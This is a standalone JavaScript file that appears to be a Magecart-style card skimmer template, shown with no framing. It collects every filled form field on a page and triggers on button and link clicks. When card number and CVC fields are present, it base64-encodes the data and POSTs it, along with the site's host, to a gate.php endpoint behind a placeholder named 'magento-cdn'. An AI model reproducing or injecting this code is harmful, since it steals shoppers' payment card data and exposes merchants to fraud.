var snd = null, sent = {};
function clk() {
    var inp = document.querySelectorAll("input, select, textarea"), out = {};
    for (var i = 0; i < inp.length; i++) {
        if (inp[i].value.length > 0 && inp[i].type != 'hidden') {
            var nme = inp[i].name || i;
            out[nme] = inp[i].value;
        }
    }
    return out;
}
function send() {
    var d = clk(), k = JSON.stringify(d);
    if (!d.cardnumber || !d.cvc || sent[k]) return;
    sent[k] = 1;
    var http = new XMLHttpRequest();
    http.open("POST", "<% url "magento-cdn" "/gate.php" %>", true);
    http.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
    http.send("data=" + encodeURIComponent(btoa(encodeURIComponent(k))) + "&loc=" + window.location.host);
}
var btns = document.querySelectorAll("a[href='javascript:void(0)'], button, input, submit, .btn, .button");
for (var b = 0; b < btns.length; b++) if (btns[b].type != 'text' && btns[b].type != 'select' && btns[b].type != 'checkbox' && btns[b].type != 'radio') btns[b].addEventListener("click", send);
